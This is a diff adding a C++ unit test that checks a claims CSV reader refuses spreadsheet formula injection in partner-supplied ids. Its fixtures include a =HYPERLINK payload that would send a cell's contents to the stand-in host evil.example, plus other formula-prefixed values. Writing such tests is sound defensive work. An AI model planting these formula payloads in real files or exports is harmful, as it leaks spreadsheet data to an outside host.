@@ -401,6 +401,24 @@ TEST(ClaimsCsv, RefusesActivityEndingBeforeItStartsAndABadPartnerId) {
   EXPECT_THAT(rows[1].error, HasSubstr("partner_id: 'Acme IT' must be lower-case"));
 }
 
+// Partners write these ids and finance opens the report in a spreadsheet.
+TEST(ClaimsCsv, RefusesIdsASpreadsheetWouldRunAsFormulas) {
+  auto rows = read_claims_csv(
+      std::string(kHeader) +
+          "\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\",acme-it,cloud,2026-Q4,"
+          "2026-12-01,2026-12-20,1,2,USD,\n"
+          "C-2,acme-it,+cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,\n"
+          "C-3,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,@SUM(1)\n"
+          "C-4,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,INV-=1\n",
+      "q.csv");
+  ASSERT_EQ(rows.size(), 4u);
+  EXPECT_THAT(rows[0].error, HasSubstr("claim_id: '=HYPERLINK("));
+  EXPECT_THAT(rows[0].error, HasSubstr("would run it as a formula"));
+  EXPECT_THAT(rows[1].error, HasSubstr("kit_id: '+cloud' must not start with"));
+  EXPECT_THAT(rows[2].error, HasSubstr("invoice_ref: '@SUM(1)' must not start with"));
+  EXPECT_TRUE(rows[3].claim) << "inside an id the characters are harmless: " << rows[3].error;
+}
+
 TEST(ClaimsJson, ReadsAnObjectOrAnArrayAndReportsEachBadClaim) {
   auto body = nlohmann::json::parse(R"([
     {"claim_id": "J-1", "partner_id": "acme-it", "kit_id": "cloud", "period": "2026-Q4",
